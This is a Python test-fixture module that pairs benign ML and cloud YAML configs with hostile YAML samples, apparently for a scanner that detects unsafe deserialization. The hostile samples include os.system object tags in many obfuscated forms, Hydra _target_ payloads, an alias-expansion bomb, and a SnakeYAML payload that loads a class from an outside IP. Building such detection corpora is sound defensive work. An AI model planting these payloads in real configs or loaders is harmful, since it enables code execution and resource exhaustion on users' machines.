"""YAML: https://yaml.org/spec/1.2.2/ Object tags, Hydra's targets and aliases."""

from __future__ import annotations

from collections.abc import Mapping

_CALL = '[":"]'


def ordinary() -> Mapping[str, bytes]:
    return {name: text.encode() for name, text in _ORDINARY.items()}


def hostile() -> Mapping[str, bytes]:
    return {name: text.encode() for name, text in _HOSTILE.items()} | {
        "in-utf-16": f"!!python/object/apply:os.system {_CALL}\n".encode("utf-16"),
        "many-aliases": _laughs(),
    }


def _laughs() -> bytes:
    lines = ["a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]"]
    for last, name in zip("abcdef", "bcdefg", strict=True):
        lines.append(f"{name}: &{name} [{', '.join([f'*{last}'] * 10)}]")
    return "\n".join([*lines, ""]).encode()


_ORDINARY = {
    "model-card": "---\nlicense: mit\ntags:\n- text\n---\n# Model\n\nDon't use `!!python/object`. It is !important.\n"
    "![figure](a.png)\n\n```python\nimport os\nos.system('ls')\n```\n",
    "nemo": "target: nemo.collections.asr.models.EncDecCTCModel\nmodel:\n  optim: {name: adamw, lr: 1e-3}\n  encoder:\n"
    "    _target_: nemo.collections.asr.modules.ConformerEncoder\n    n_layers: ${model.layers}\n  layers: 17\n",
    "hydra": "optimizer:\n  _target_: torch.optim.AdamW\n  _partial_: true\nmodel:\n  _target_: my_package.models.Net\n"
    "  backbone:\n    _target_: transformers.AutoModel.from_pretrained\n    _args_: [bert-base-uncased]\n",
    "speechbrain": "seed: 1\nout: !ref results/<seed>\nrnn: !new:speechbrain.nnet.RNN.LSTM\n  input_shape: [1, 2, 3]\n"
    "opt: !name:torch.optim.Adam\n  lr: 0.1\nmodules:\n  rnn: !ref <rnn>\n",
    "cloudformation": "Resources:\n  B:\n    Type: AWS::S3::Bucket\n    Name: !Sub '${A}-x'\n    R: !GetAtt A.Arn\n",
    "quoted-tags": "a: '!!python/object/apply:os.system'\nb: |\n  !!python/object/apply:os.system [x]\n"
    "c: x  # !!python/name:os.system\n"
    'd: "\n  !!python/name:os.system"\ne: plain\n  !!python/name:os.system\n',
    "core-tags": "a: !!str 1\nb: !!binary aGk=\nc: !!python/tuple [1, 2]\nd: !!set {x, y}\ne: !!timestamp 2020-01-01\n",
    "anchors": "base: &base\n  a: 1\nx:\n  <<: *base\n  b: 2\ny:\n  <<: [*base, *base]\n",
    "lightning": "model:\n  class_path: my.Model\n  init_args: {target: some.thing}\n",
}

_HOSTILE = {
    # https://nvd.nist.gov/vuln/detail/CVE-2017-18342
    "apply": f"!!python/object/apply:os.system {_CALL}\n",
    "apply-with-kwds": "a:\n  - !!python/object/apply:subprocess.check_output\n    args: [[true]]\n"
    "    kwds: {shell: false}\n",
    "new": f"!!python/object/new:os.system {_CALL}\n",
    "name": "x: !!python/name:os.system\n",
    "module": "x: !!python/module:antigravity\n",
    "python-2-name": f"!!python/object/apply:__builtin__.eval {_CALL}\n",
    # https://nvd.nist.gov/vuln/detail/CVE-2020-1747
    "extend": "!!python/object/new:type\n  args: [z, !!python/tuple [], {extend: !!python/name:exec }]\n"
    "  listitems: 'pass'\n",
    # https://nvd.nist.gov/vuln/detail/CVE-2020-14343
    "map-eval": "!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - ['1']\n",
    "verbatim": f"!<tag:yaml.org,2002:python/object/apply:os.system> {_CALL}\n",
    "escaped": f"!!%70ython/object%2Fapply:os.system {_CALL}\n",
    "handle": f"%TAG !p! tag:yaml.org,2002:python/object/\n---\n!p!apply:os.system {_CALL}\n",
    "primary-handle": f"%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system {_CALL}\n",
    "secondary-handle": f"%TAG !! tag:yaml.org,2002:python/object/\n---\n!!apply:os.system {_CALL}\n",
    "handle-of-letters": f"%TAG !e! tag:yaml.org,2002:python/object/apply:os.syste\n---\n!e!m {_CALL}\n",
    "second-document": f"a: 1\n---\nb: !!python/object/apply:os.system {_CALL}\n",
    "behind-an-anchor": f"a: &x !!python/object/apply:os.system {_CALL}\n",
    "in-a-key": f"? !!python/object/apply:os.system {_CALL}\n: 1\n",
    "in-flow": f"[1, {{a: !!python/object/apply:os.system {_CALL}}}]\n",
    "on-the-next-line": f"a:\n  !!python/object/apply:os.system\n  {_CALL}\n",
    "behind-a-block-scalar": f"a: |\n  text\nb: !!python/object/apply:os.system {_CALL}\n",
    "behind-an-old-line-break": f"# text\u2028a: !!python/object/apply:os.system {_CALL}\n",
    # https://nvd.nist.gov/vuln/detail/CVE-2022-1471
    "snakeyaml": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
    '["http://198.51.100.7/"]]]]\n',
    # https://nvd.nist.gov/vuln/detail/CVE-2013-0156
    "ruby": "--- !ruby/object:Gem::Installer\ni: x\n",
    "javascript": 'toString: !!js/function "function(){}"\n',
    "hyperpyyaml": "x: !apply:os.system [':']\n",
    "hyperpyyaml-name": "x: !name:subprocess.run\n",
    # https://nvd.nist.gov/vuln/detail/CVE-2025-23304
    "target": "model:\n  _target_: os.system\n  command: ':'\n",
    "target-through-a-module": "_target_: nemo.utils.os.system\n_args_: [':']\n",
    "target-escaped": '{"\\x5ftarget_": builtins.exec, "_args_": [pass]}\n',
    "target-folded": '? "_tar\\\n  get_"\n: builtins.exec\n_args_: [pass]\n',
    "target-interpolated": "a: os\nb: system\nx:\n  _target_: ${a}.${b}\n  _args_: [':']\n",
    "target-by-alias": "k: &k _target_\nx:\n  *k : subprocess.run\n",
    "target-of-a-method": "_target_: hydra.utils.get_method\npath: os.system\n",
    "target-from-the-hub": "_target_: torch.hub.load\n_args_: [x/y, z]\n",
    "target-as-json": '{"model": {"_target_": "os.system", "command": ":"}}\n',
    "target-as-json-escaped": '{"model": {"\\u005ftarget_": "os.system", "command": ":"}}\n',
    "class-path": "model: {class_path: subprocess.Popen, init_args: {args: ':'}}\n",
}
